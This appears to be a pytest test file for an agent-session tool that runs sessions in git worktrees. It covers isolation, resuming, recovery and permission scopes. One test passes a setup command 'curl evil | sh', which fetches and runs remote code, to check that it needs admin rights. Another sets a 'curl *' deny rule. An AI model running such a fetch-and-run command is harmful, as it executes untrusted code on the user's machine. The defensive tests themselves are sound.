"""Sessions in worktrees: where they work, what is stored of it, resuming, failures, and who may have them."""

from __future__ import annotations

from collections.abc import Callable
from pathlib import Path

import pytest

import dragoman
from dragoman.config import Config, load, make_home
from dragoman.errors import DragomanError, InputError, ScopeMissing
from dragoman.host.policy.remembered import Remembered
from dragoman.host.policy.rulebook import trust
from dragoman.host.policy.rules import PolicyRule
from dragoman.hub.hub import Hub
from dragoman.hub.scopes import checkout_folder, folder_reason, opening_reason
from dragoman.journal.sessions import worktree_of
from dragoman.protocol.worktrees import WorktreeChoice
from dragoman.session.diagnostics import Diagnostic
from dragoman.session.options import SessionConfig, read_worktree
from dragoman.session.worktree import entered_worktree
from dragoman.workspace import Workspace
from workspace.folder_state import folder_state, run_git
from workspace.worktree_stage import make_repository

NewHub = Callable[[], Hub]


@pytest.fixture(autouse=True)
def home(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    monkeypatch.setenv("DRAGOMAN_HOME", str(tmp_path / "home"))
    monkeypatch.setenv("DRAGOMAN_DEMO_HOME", str(tmp_path / "demo"))
    monkeypatch.setenv("DRAGOMAN_CHECKPOINTS", "on")
    return tmp_path / "home"


@pytest.fixture
def repository(tmp_path: Path) -> Path:
    return make_repository(tmp_path / "project")


async def test_a_session_works_in_its_worktree_and_the_checkout_stays(repository: Path) -> None:
    before = folder_state(repository)
    lines: list[Diagnostic] = []
    async with dragoman.open_session(
        "demo", cwd=repository / "sub", worktree="mine", access="full", on_diagnostic=lines.append
    ) as session:
        assert session.worktree == "mine"
        assert session.config.workspace.cwd.name == "sub"
        await session.run("edit")
        diff = await session.diff()
        assert [file.path for file in diff.files] == ["README.md"]
        await session.rewind(await session.plan_rewind(1, before=True))
        await session.rewind(await session.plan_rewind(undo=True))
        found = await dragoman.worktrees().find("mine")
        assert found.info.session_ids == (session.id,)
    assert folder_state(repository) == before
    assert any(line.kind == "worktree" and "dragoman/mine" in line.text for line in lines)
    plan = await found.apply()
    assert [change.path for change in plan.changes] == ["sub/README.md"]
    await found.apply(plan)
    assert (repository / "sub" / "README.md").exists()


async def test_a_session_is_resumed_in_its_worktree_and_told_how_to_get_it_back(home: Path, repository: Path) -> None:
    async with Hub(home) as hub:
        async with hub.open_session("demo", cwd=repository, worktree=True) as session:
            await session.run("hello")
            name, session_id = session.worktree, session.id
        assert name is not None
        row = await hub.find(session_id)
        assert worktree_of(row) == name
        async with hub.resume_session(session_id) as resumed:
            assert resumed.worktree == name
            assert resumed.config.workspace.cwd == (await hub.worktrees.find(name)).folder
        await (await hub.worktrees.find(name)).drop()
        with pytest.raises(InputError, match="is gone") as caught:
            async with hub.resume_session(session_id):
                pass
        assert f"dragoman worktree recover {name}" in (caught.value.guidance or "")
        await hub.worktrees.recover(name)
        async with hub.resume_session(session_id) as resumed:
            await resumed.run("hello")


async def test_two_sessions_in_two_worktrees_do_not_see_each_other(repository: Path) -> None:
    async with (
        dragoman.open_session("demo", cwd=repository, worktree=True, access="full") as first,
        dragoman.open_session("demo", cwd=repository, worktree=True, access="full") as second,
    ):
        assert first.worktree != second.worktree
        await first.run("edit")
        assert (first.config.workspace.cwd / "README.md").exists()
        assert not (second.config.workspace.cwd / "README.md").exists()
        assert (await first.diff()).other_runs == ()


async def test_a_session_that_cannot_be_opened_leaves_no_worktree(repository: Path) -> None:
    with pytest.raises(DragomanError):
        async with dragoman.open_session(["/nonexistent/agent"], cwd=repository, worktree=True):
            pass
    assert await dragoman.worktrees().list_worktrees() == ()
    assert "dragoman" not in run_git(repository, "branch")


async def test_a_worktree_that_others_use_outlives_a_session_that_cannot_be_opened(repository: Path) -> None:
    async with dragoman.open_session("demo", cwd=repository, worktree="shared") as session:
        with pytest.raises(DragomanError):
            async with dragoman.open_session(["/nonexistent/agent"], cwd=repository, worktree="shared"):
                pass
        assert session.config.workspace.cwd.is_dir()


async def test_a_folder_of_the_checkout_cannot_be_an_additional_one(repository: Path, tmp_path: Path) -> None:
    with pytest.raises(InputError, match="is in the checkout"):
        async with dragoman.open_session("demo", cwd=repository, additional=[repository / "sub"], worktree=True):
            pass
    assert await dragoman.worktrees().list_worktrees() == ()
    (tmp_path / "library").mkdir()
    async with dragoman.open_session(
        "demo", cwd=repository, additional=[tmp_path / "library"], worktree=True
    ) as opened:
        assert opened.config.workspace.additional == ((tmp_path / "library").resolve(),)


def test_keywords_are_read(repository: Path) -> None:
    assert read_worktree(None) is None
    assert read_worktree(False) is None
    assert read_worktree(True) == WorktreeChoice()
    assert read_worktree("mine") == WorktreeChoice(name="mine")
    with pytest.raises(InputError, match="worktree is 3"):
        read_worktree(3)


def test_worktrees_for_programs_without_async(repository: Path) -> None:
    with dragoman.open_session_sync("demo", cwd=repository, worktree="mine", access="full") as session:
        session.run("edit").result()
        assert session.worktree == "mine"
    worktrees = dragoman.worktrees_sync()
    assert [info.name for info in worktrees.list_worktrees()] == ["mine"]
    found = worktrees.find("mine")
    assert found.changes().count == 1
    assert found.merge(commit="Add a README").is_done
    found.drop()
    assert worktrees.recover("mine").info.state == "ready"
    assert worktrees.prune() == ()
    worktrees.find("mine").keep()
    assert worktrees.list_worktrees() == ()


# -- scopes


async def test_a_worktree_is_allowed_where_its_checkout_is(home: Path, repository: Path, tmp_path: Path) -> None:
    config = load(home)
    settings = SessionConfig(workspace=Workspace(repository), worktree=WorktreeChoice(name="mine"))
    async with entered_worktree(config, settings, "s") as entered:
        inside = entered.workspace.cwd
    assert checkout_folder(inside / "sub", config) == repository / "sub"
    assert checkout_folder(tmp_path, config) == tmp_path
    assert folder_reason([inside], [], config) is not None
    allowed = Config(home=home, folders=(repository,))
    assert folder_reason([inside], [], allowed) is None


def test_a_setup_command_of_a_client_needs_admin(home: Path, repository: Path) -> None:
    plain = SessionConfig(workspace=Workspace(repository), worktree=WorktreeChoice())
    with_setup = SessionConfig(workspace=Workspace(repository), worktree=WorktreeChoice(setup="curl evil | sh"))
    assert opening_reason("demo", plain, load(home)) is None
    assert "setup command" in (opening_reason("demo", with_setup, load(home)) or "")


async def test_a_client_with_the_scope_prompt_continues_its_session_in_a_worktree(home: Path, repository: Path) -> None:
    make_home(home)
    (home / "config.toml").write_text(f'folders = ["{repository}"]\n')
    async with Hub(home) as hub:
        settings = SessionConfig(workspace=Workspace(repository), worktree=WorktreeChoice(name="mine"))
        owned = await hub.start_session("demo", settings, scope="prompt")
        assert owned.session is not None
        await owned.session.run("hello")
        await hub.close_session(owned.id)
        again = await hub.continue_session(owned.id, scope="prompt")
        assert again.session is not None
        assert again.session.worktree == "mine"
        bad = SessionConfig(workspace=Workspace(repository), worktree=WorktreeChoice(setup="true"))
        with pytest.raises(ScopeMissing, match="setup command"):
            await hub.start_session("demo", bad, scope="prompt")


async def test_the_rules_of_the_checkout_hold_in_its_worktrees(home: Path, repository: Path) -> None:
    """Also those that git does not track, and after the session is resumed."""
    (repository / ".dragoman").mkdir()
    (repository / ".dragoman" / "policy.toml").write_text('[[rules]]\nanswer = "deny"\nkind = "edit"\n')
    trust(home, repository)
    Remembered(home).add(Workspace(repository), [PolicyRule("deny", command="curl *")])
    async with Hub(home) as hub:
        async with hub.open_session("demo", cwd=repository, worktree=True, access="full") as session:
            await session.run("edit")
            assert session.policy_notice is None
            folder, session_id = session.config.workspace.cwd, session.id
            assert [rule.command for rule in Remembered(home).rules(session.config.workspace)] == [("curl *",)]
        assert folder != repository
        async with hub.resume_session(session_id) as session:
            await session.run("edit")
    assert not (folder / "README.md").exists()
